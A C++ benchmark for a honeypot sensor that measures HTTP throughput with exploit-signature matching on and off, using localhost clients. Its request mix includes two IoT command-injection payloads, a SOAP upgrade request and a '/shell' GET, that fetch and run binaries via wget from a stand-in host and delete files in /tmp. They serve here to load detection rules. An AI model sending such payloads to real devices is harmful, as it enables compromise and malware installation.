// bench/http: HTTP requests per second through the sensor with every shipped exploit signature
// loaded and matched, as a ratio to the same sensor with matching off, measured in the same run.
// Keep-alive clients send a realistic mix: mostly scanner GETs, some logins and exploit attempts
// (whose downloads are refused: no downloader). Everything on 127.0.0.1.

#include <arpa/inet.h>
#include <fmt/format.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <thread>
#include <vector>

#include "bench_support.h"
#include "sensor/persona/persona.h"
#include "sensor/runtime/sensor_server.h"
#include "testing/temp_dir.h"

namespace {

using Clock = std::chrono::steady_clock;
using namespace mitsu;

using mitsu::bench::die;

class CountingSink : public sensor::EventSink {
 public:
  void emit(const nlohmann::json&) override { ++events; }
  std::atomic<std::uint64_t> events{0};
};

// The request mix: what a sensor's web port really sees is mostly scans.
std::vector<std::string> request_mix() {
  std::vector<std::string> out;
  for (const char* path :
       {"/", "/favicon.ico", "/robots.txt", "/login.cgi", "/index.html", "/cgi-bin/luci", "/HNAP1/",
        "/.env", "/admin/config.php", "/snapshot.cgi"}) {
    out.push_back(
        fmt::format("GET {} HTTP/1.1\r\nHost: 203.0.113.5\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n"
                    "Accept: */*\r\nAccept-Encoding: gzip\r\n\r\n",
                    path));
  }
  out.push_back(
      "POST /login.cgi HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
      "Content-Length: 31\r\n\r\nusername=admin&password=admin12");
  std::string soap =
      "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget "
      "-g 192.0.2.7 -l /tmp/x -r /mips)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>";
  out.push_back(
      fmt::format("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: x\r\nContent-Length: "
                  "{}\r\n\r\n{}",
                  soap.size(), soap));
  out.push_back(
      "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: "
      "x\r\n\r\n");
  return out;
}

// Keep-alive connections, each sending the mix round-robin, one request in flight.
double requests_per_second(int port, int connections, double seconds) {
  auto mix = request_mix();
  std::atomic<std::uint64_t> done{0};
  std::atomic<bool> stop{false};
  std::vector<std::thread> clients;
  for (int c = 0; c < connections; ++c) {
    clients.emplace_back([&, c] {
      int fd = -1;
      std::size_t next = static_cast<std::size_t>(c);
      char buffer[65536];
      while (!stop) {
        if (fd < 0) {
          fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
          sockaddr_in a{};
          a.sin_family = AF_INET;
          a.sin_port = htons(static_cast<std::uint16_t>(port));
          a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
          if (::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0) {
            die("cannot connect");
          }
        }
        const std::string& request = mix[next++ % mix.size()];
        (void)::send(fd, request.data(), request.size(), MSG_NOSIGNAL);
        // One response: headers, then Content-Length bytes.
        std::string got;
        std::size_t need = std::string::npos;
        while (got.size() < need) {
          ssize_t n = ::read(fd, buffer, sizeof(buffer));
          if (n <= 0) {
            ::close(fd);
            fd = -1;
            break;
          }
          got.append(buffer, static_cast<std::size_t>(n));
          std::size_t end = got.find("\r\n\r\n");
          if (need == std::string::npos && end != std::string::npos) {
            std::size_t at = got.find("Content-Length: ");
            need = end + 4 + std::stoul(got.substr(at + 16));
          }
        }
        if (fd >= 0) {
          ++done;
        }
      }
      if (fd >= 0) {
        ::close(fd);
      }
    });
  }
  auto begin = Clock::now();
  std::this_thread::sleep_for(std::chrono::duration<double>(seconds));
  stop = true;
  double elapsed = std::chrono::duration<double>(Clock::now() - begin).count();
  std::uint64_t total = done;
  for (auto& t : clients) {
    t.join();
  }
  return static_cast<double>(total) / elapsed;
}

}  // namespace

int main(int argc, char** argv) {
  double seconds = argc > 2 && std::string(argv[1]) == "--seconds" ? std::stod(argv[2]) : 2;
  testing::TempDir dir("bench-http");
  auto personas = sensor::load_personas(MITSU_DEFAULT_PERSONAS_DIR);
  if (!personas) {
    die(personas.error());
  }
  auto rules = sensor::ExploitRules::load({MITSU_DEFAULT_EXPLOITS_DIR});
  if (!rules) {
    die(rules.error());
  }
  auto artifacts = artifacts::ArtifactStore::open({dir.path() / "artifacts"});
  if (!artifacts) {
    die(artifacts.error());
  }
  auto run = [&](std::shared_ptr<const sensor::ExploitRules> exploits, CountingSink& sink) {
    sensor::SensorOptions options;
    for (auto& p : *personas) {
      if (p.name == "ip-camera") {
        options.personas = {p};
      }
    }
    options.listeners = {{"http", "127.0.0.1", 0, 0}};
    options.exploits = std::move(exploits);
    options.limits.max_sessions_per_source = 100'000;
    sensor::SensorServer server(options, sink, **artifacts, nullptr);
    if (Status started = server.start(); !started) {
      die(started.error());
    }
    double rate = requests_per_second(server.bound().at(0).port, 32, seconds);
    server.stop();
    return rate;
  };
  // Rounds alternate off and on so drift in the machine's load falls on both alike; the
  // medians are compared.
  constexpr int kRounds = 5;
  CountingSink off_sink, on_sink;
  std::vector<double> off, on;
  for (int round = 0; round < kRounds; ++round) {
    off.push_back(run(nullptr, off_sink));
    on.push_back(run(*rules, on_sink));
  }
  auto median = [](std::vector<double> v) {
    std::sort(v.begin(), v.end());
    return v[v.size() / 2];
  };
  fmt::print(
      "bench/http: {} signatures, 32 keep-alive clients, {} alternating rounds of {:.0f} s\n",
      (*rules)->rules().size(), kRounds, seconds);
  fmt::print("  matching off: {:9.0f} requests/s median ({} events)\n", median(off),
             off_sink.events.load());
  fmt::print("  matching on:  {:9.0f} requests/s median ({} events)\n", median(on),
             on_sink.events.load());
  fmt::print("  ratio on/off: {:.2f}x (target >= 0.8x)\n", median(on) / median(off));
  return 0;
}
